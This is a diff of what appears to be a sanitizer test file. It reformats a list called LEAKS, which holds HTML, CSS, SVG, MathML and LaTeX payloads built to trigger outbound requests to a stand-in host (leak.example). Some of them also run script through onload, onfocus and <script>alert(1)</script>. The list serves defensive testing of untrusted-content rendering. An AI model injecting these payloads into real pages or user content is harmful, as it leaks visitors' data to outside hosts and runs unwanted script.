@@ -64,19 +64,43 @@ LEAKS = [
     f'<img srcset="{LEAK} 1x, {LEAK} 2x">',
     f'<picture><source srcset="{LEAK}"><img src="{LEAK}"></picture>',
     f'<link rel="preload" as="image" href="{LEAK}"><link rel="dns-prefetch" href="//leak.example">',
-    f'<link rel=stylesheet href="{LEAK}"><style>@import "{LEAK}"; * {{background: url({LEAK})}}</style>',
-    f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td style="content: url({LEAK})">1',
-    f'<td style="--x: url({LEAK}); background: var(--x); list-style: url({LEAK}); cursor: url({LEAK}), auto">x',
+    (
+        f'<link rel=stylesheet href="{LEAK}"><style>@import "{LEAK}"; * {{background: '
+        f"url({LEAK})}}</style>"
+    ),
+    (
+        f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td '
+        f'style="content: url({LEAK})">1'
+    ),
+    (
+        f'<td style="--x: url({LEAK}); background: var(--x); list-style: url({LEAK}); cursor: '
+        f'url({LEAK}), auto">x'
+    ),
     f"<p style=\"background-image: image-set('{LEAK}' 1x); border-image: url({LEAK}) 1\">x</p>",
     f'<svg xmlns="{SVG}"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
-    f'<svg xmlns="{SVG}"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{LEAK}"/></foreignObject></svg>',
-    f'<svg xmlns="{SVG}"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" height="9"/></svg>',
-    f'<svg xmlns="{SVG}" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect width="9"/></a></svg>',
+    (
+        f'<svg xmlns="{SVG}"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" '
+        f'src="{LEAK}"/></foreignObject></svg>'
+    ),
+    (
+        f'<svg xmlns="{SVG}"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" '
+        'height="9"/></svg>'
+    ),
+    (
+        f'<svg xmlns="{SVG}" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect '
+        'width="9"/></a></svg>'
+    ),
     f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="{SVG}"/>',
     f'<video poster="{LEAK}" src="{LEAK}"><track src="{LEAK}"></video><audio src="{LEAK}"></audio>',
-    f'<iframe src="{LEAK}" srcdoc="<img src={LEAK}>"></iframe><object data="{LEAK}"></object><embed src="{LEAK}">',
+    (
+        f'<iframe src="{LEAK}" srcdoc="<img src={LEAK}>"></iframe><object '
+        f'data="{LEAK}"></object><embed src="{LEAK}">'
+    ),
     f'<meta http-equiv="refresh" content="0; url={LEAK}"><base href="{LEAK}">',
-    f'<form action="{LEAK}"><input name=x autofocus onfocus=alert(1)><button formaction="{LEAK}">x</button></form>',
+    (
+        f'<form action="{LEAK}"><input name=x autofocus onfocus=alert(1)><button '
+        f'formaction="{LEAK}">x</button></form>'
+    ),
     f'<input type=image src="{LEAK}"><body background="{LEAK}">',
     f'<math><mtext href="{LEAK}"><img src="{LEAK}"></mtext></math>',
     f"$\\includegraphics{{{LEAK}}}$ $\\href{{{LEAK}}}{{x}}$ $$\\url{{{LEAK}}}$$",
